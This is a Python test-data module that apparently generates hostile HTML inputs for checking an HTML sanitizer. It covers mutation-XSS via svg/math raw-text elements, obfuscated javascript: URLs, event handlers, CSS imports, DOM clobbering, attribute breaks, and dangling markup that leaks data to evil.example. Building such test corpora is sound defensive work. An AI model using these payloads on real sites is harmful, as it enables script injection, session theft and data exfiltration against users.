"""More hostile HTML of our own: what parsers disagree on, and what hides in values."""

from __future__ import annotations

_LURE = "<img src=x onerror=steal()>"

# Elements whose content a parser reads otherwise than its neighbours do.
_RAW = (
    *("iframe", "listing", "noembed", "noframes", "noscript", "plaintext", "script"),
    *("style", "template", "textarea", "title", "xmp"),
)
_ROOTS = ("svg", "math")

_RAW_IN_ROOTS = {
    f"the end of {raw} in an attribute, in {root}": (
        f"<{root}><{raw}><p id='</{raw}>{_LURE}'></{raw}></{root}>"
    )
    for raw in _RAW
    for root in _ROOTS
}
_RAW_IN_FORMS = {
    f"a form in a form around {raw}": (
        f"<form><div></form><form><{raw}></form>{_LURE}</{raw}></div></form>"
    )
    for raw in _RAW
}
_COMMENTS_IN_RAW = {
    f"a comment over the end of {raw}": f"<{raw}><!--</{raw}>{_LURE}--></{raw}>"
    for raw in _RAW
}
_INTEGRATION_POINTS = {
    f"HTML at {point}": (
        f"<{root}><{point}><table><tr><td><{root}><style>"
        f"<b title='</style>{_LURE}'></style></td></tr></table></{point}></{root}>"
    )
    for root, point in (
        *(("svg", "foreignObject"), ("svg", "desc"), ("svg", "title")),
        *(("math", "mi"), ("math", "mo"), ("math", "mn"), ("math", "ms")),
        *(("math", "mtext"), ("math", "annotation-xml encoding=text/html")),
        ("math", "annotation-xml encoding=application/xhtml+xml"),
    )
}
_SCHEMES = {
    f"a script address with {what} in it": f"<a href='{address}'>x</a>"
    for what, address in {
        "a carriage return": "java&#13;script:steal()",
        "a hexadecimal tab": "java&#x9;script:steal()",
        "a name of a line feed": "java&NewLine;script:steal()",
        "a form feed before it": "&#12;javascript:steal()",
        "a backspace before it": "&#8;javascript:steal()",
        "an escape before it": "&#27;javascript:steal()",
        "all control characters before it": (
            "".join(f"&#{number};" for number in range(1, 33)) + "javascript:steal()"
        ),
        "a soft hyphen": "java&#173;script:steal()",
        "a zero-width space": "java&#8203;script:steal()",
        "a mark of direction": "&#8206;javascript:steal()",
        "an override of direction": "&#8238;javascript:steal()",
        "a tab before the colon": "javascript&#9;:steal()",
        "a comment before the code": "javascript:/*--></title></style>*/steal()",
        "a slash before the code": "javascript://%0asteal()",
        "an address behind it": "javascript:steal()//https://a.example/",
        "a host in it": "javascript://a.example/%0asteal()",
        "figures without semicolons": "&#106&#97&#118&#97&#115cript:steal()",
        "long figures": "&#0000106;&#0000097;vascript:steal()",
        "capital X figures": "&#X6A;&#X61;vascript:steal()",
        "a percent sign": "javascript%3Asteal()",
        "twice escaped letters": "&amp;#106;avascript:steal()",
        "a long s": "java\u017fcript:steal()",
        "a dotless i": "javascr\u0131pt:steal()",
        "a Kelvin sign": "java\u212acript:steal()",
        "a colon of full width": "javascript\uff1asteal()",
        "feed before it": "feed:javascript:steal()",
        "pcast before it": "pcast:javascript:steal()",
        "jar before it": "jar:javascript:steal()!/",
    }.items()
}
_OTHER_SCHEMES = {
    f"an address of the scheme {scheme}": (
        f"<a href='{scheme}:x'>x</a><img src={scheme}:x>"
    )
    for scheme in (
        *("about", "blob", "chrome", "data", "filesystem", "ftp", "gopher", "intent"),
        *("jar", "mhtml", "ms-settings", "resource", "res", "search-ms", "sms"),
        *("steam", "vbscript", "view-source", "wyciwyg", "x-javascript"),
    )
}
_ADDRESS_ATTRIBUTES = {
    f"a script address in {element} {attribute}": (
        f"<{element} {attribute}='javascript:steal()'>x</{element}>"
    )
    for element, attribute in (
        *(("a", "xlink:href"), ("a", "xml:base"), ("a", "ping"), ("area", "href")),
        *(("audio", "src"), ("bgsound", "src"), ("body", "background")),
        *(("button", "formaction"), ("del", "cite"), ("embed", "src")),
        *(("form", "action"), ("frame", "src"), ("html", "manifest")),
        *(("img", "longdesc"), ("img", "srcset"), ("input", "formaction")),
        *(("ins", "cite"), ("isindex", "action"), ("link", "href")),
        *(("object", "codebase"), ("object", "data"), ("param", "value")),
        *(("portal", "src"), ("q", "cite"), ("script", "src"), ("source", "srcset")),
        *(("td", "background"), ("track", "src"), ("video", "poster")),
    )
}
_HANDLERS = {
    f"the handler {name}": f"<p {name}=steal()>x</p><img src=x {name}='steal()'>"
    for name in (
        *("onafterscriptexecute", "onanimationstart", "onauxclick", "onbeforeinput"),
        *("onbeforetoggle", "oncontentvisibilityautostatechange", "oncut", "ondrag"),
        *("onfocusin", "onformdata", "onhashchange", "onload", "onmessage"),
        *("onpageshow", "onpointerrawupdate", "onpopstate", "onresize", "onscroll"),
        *("onscrollend", "onscrollsnapchange", "onsearch", "onsecuritypolicyviolation"),
        *("ontransitionend", "ontransitionrun", "onunload", "onwebkitanimationend"),
        *("onwheel", "onx", "ON\u212aEY", "on\x00click", "data-on"),
    )
}
_STYLES = {
    f"a style with {what}": f'<p style="{style}">x</p><style>{style}</style>'
    for what, style in {
        "an import": "@import 'javascript:steal()'",
        "an escaped import": "@\\69mport url(//evil.example/s.css)",
        "an expression split by a comment": "width:exp/**/ression(steal())",
        "an escaped expression": "width:\\65xpression(steal())",
        "an address of data": "background:url(data:text/html,x)",
        "an image set": "background:image-set('//evil.example/x' 1x)",
        "a leak by attribute": "list-style:url(//evil.example/?a)",
        "a font": "@font-face{font-family:a;src:url(//evil.example/f)}",
        "a charset": "@charset 'utf-7'",
        "a filter": "filter:progid:DXImageTransform(src='//evil.example')",
        "a cursor": "cursor:url(//evil.example/c)",
        "content": "content:url(//evil.example/x)",
    }.items()
}
_CLOBBERING = {
    f"an element that takes the name {name}": (
        f"<a id={name} name={name} href='https://a.example/'>x</a>"
        f"<img name={name} src='https://a.example/a.png'><form id={name}></form>"
    )
    for name in (
        *("attributes", "body", "children", "cookie", "createElement", "currentScript"),
        *("defaultView", "documentElement", "firstChild", "location", "nodeName"),
        *("parentNode", "URL", "__proto__"),
    )
}
_ATTRIBUTE_BREAKS = {
    f"an attribute broken by {what}": f"<p {attributes}>x</p>"
    for what, attributes in {
        "a quote of the other kind": "title='\"' onclick=steal() lang='\"'",
        "an equals sign": "title==onclick=steal() a=''onclick=steal()",
        "a slash": "title/onclick=steal()//",
        "an angle bracket in a name": "<img onclick=steal()",
        "an end inside quotes": "title='>' onclick='steal()'",
        "an escaped quote": "title='&apos; onclick=steal() &apos;'",
        "a NUL": "title=a\x00onclick=steal() \x00onclick=steal()",
        "a vertical tab": "title=a\x0bonclick=steal() \x0bonclick=steal()",
        "a form feed": "title=a\x0conclick=steal()",
        "a name twice": "title=a title=b onclick=a() onclick=b()",
        "an unquoted end of a tag": "title=a>b</p><p onclick=steal()",
        "a grave accent": "title=`a` onclick=`steal()`",
    }.items()
}
_DANGLING = {
    f"a dangling {what}": html
    for what, html in {
        "picture": "<img src='//evil.example/?",
        "picture in double quotes": '<p>x</p><img src="https://evil.example/?',
        "link target": "<a href=https://a.example/ target='",
        "base target": "<base target='",
        "form": "<form action='//evil.example/'><textarea>",
        "option": "<form action=//evil.example/><select><option>",
        "button of a form": "<button form=a formaction='//evil.example/",
        "map": "<map name=a><area href='//evil.example/?",
        "table background": "<table background='//evil.example/?",
        "refresh": '<meta http-equiv=refresh content="0;//evil.example/?',
        "frame": "<iframe name='",
        "tag": "<",
        "end tag": "</",
        "comment": "<!--",
        "section": "<![CDATA[<img src=x onerror=steal()>",
        "instruction": "<?",
    }.items()
}
_DRAWINGS = {
    f"a drawing with {what}": f"<svg>{inside}</svg>"
    for what, inside in {
        "an image": "<image href='javascript:steal()'/>",
        "a used drawing of data": "<use href='data:image/svg+xml,<svg id=x>#x'/>",
        "a motion": "<animateMotion onbegin=steal() />",
        "a transformation": "<animateTransform onbegin=steal() />",
        "a discarded element": "<discard onbegin=steal() />",
        "a handler element": "<handler xmlns:ev=x ev:event=load>steal()</handler>",
        "a picture of another document": "<feImage href='//evil.example/a.svg'/>",
        "a view": "<view id=x/><a href='javascript:steal()'><rect/></a>",
        "a frame": "<foreignObject><iframe src='javascript:steal()'/></foreignObject>",
        "a style of its own": "<style>@import '//evil.example/s.css';</style>",
        "a break-out": f"<p>{_LURE}</p>",
        "a font of colour": f"<font color=red>{_LURE}</font>",
        "a mask": "<rect mask='url(//evil.example/a.svg#m)'/>",
        "animated values": "<a><animate attributeName=xlink:href to=javascript:x />",
    }.items()
}
_DEPTH = {
    "formatting nested beyond what parsers keep": f"{'<b>' * 600}{_LURE}",
    "boxes nested beyond what parsers keep": f"{'<div>' * 600}<svg><style>{_LURE}",
    "tables in tables": f"{'<table><tr><td>' * 60}{_LURE}",
    "links in formatting a hundred times": f"{'<a href=x><b>' * 100}{_LURE}",
}

CONFUSING = {
    **_RAW_IN_ROOTS,
    **_RAW_IN_FORMS,
    **_COMMENTS_IN_RAW,
    **_INTEGRATION_POINTS,
    **_SCHEMES,
    **_OTHER_SCHEMES,
    **_ADDRESS_ATTRIBUTES,
    **_HANDLERS,
    **_STYLES,
    **_CLOBBERING,
    **_ATTRIBUTE_BREAKS,
    **_DANGLING,
    **_DRAWINGS,
    **_DEPTH,
}
